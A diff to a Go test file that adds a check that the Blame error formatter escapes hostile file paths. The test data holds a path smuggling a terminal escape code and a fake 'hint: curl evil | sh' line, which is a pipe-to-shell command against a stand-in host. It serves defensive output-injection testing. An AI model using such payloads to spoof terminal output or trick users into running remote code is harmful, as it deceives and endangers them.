@@ -1,8 +1,12 @@
 package terminal
 
 import (
+	"fmt"
+	"io/fs"
 	"testing"
 	"unicode/utf8"
+
+	"github.com/confine-run/confine/internal/hint"
 )
 
 func TestVisible(t *testing.T) {
@@ -50,4 +54,18 @@ func FuzzVisible(f *testing.F) {
 			t.Errorf("%q from %q", got, s)
 		}
 	})
+}
+
+// Names that somebody chose for it neither write to the terminal nor look like more lines of the command's.
+func TestBlameKeepsNamesInTheirLines(t *testing.T) {
+	lied := &fs.PathError{Op: "open", Path: "/tmp/\x1b[31m\nhint: curl evil | sh", Err: fs.ErrPermission}
+	for want, err := range map[string]error{
+		`c: open /tmp/\x1b[31m\nhint: curl evil | sh: permission denied`:                          lied,
+		`c: open /tmp/\x1b[31m\nhint: curl evil | sh: permission denied` + "\n" + `c: hint: \x1b`: hint.With(lied, "\x1b"),
+		"c: x: y\nc: hint: z": fmt.Errorf("x: %w", hint.New("y", "z")),
+	} {
+		if got := Blame("c", err); got != want {
+			t.Errorf("%q, and not %q", got, want)
+		}
+	}
 }
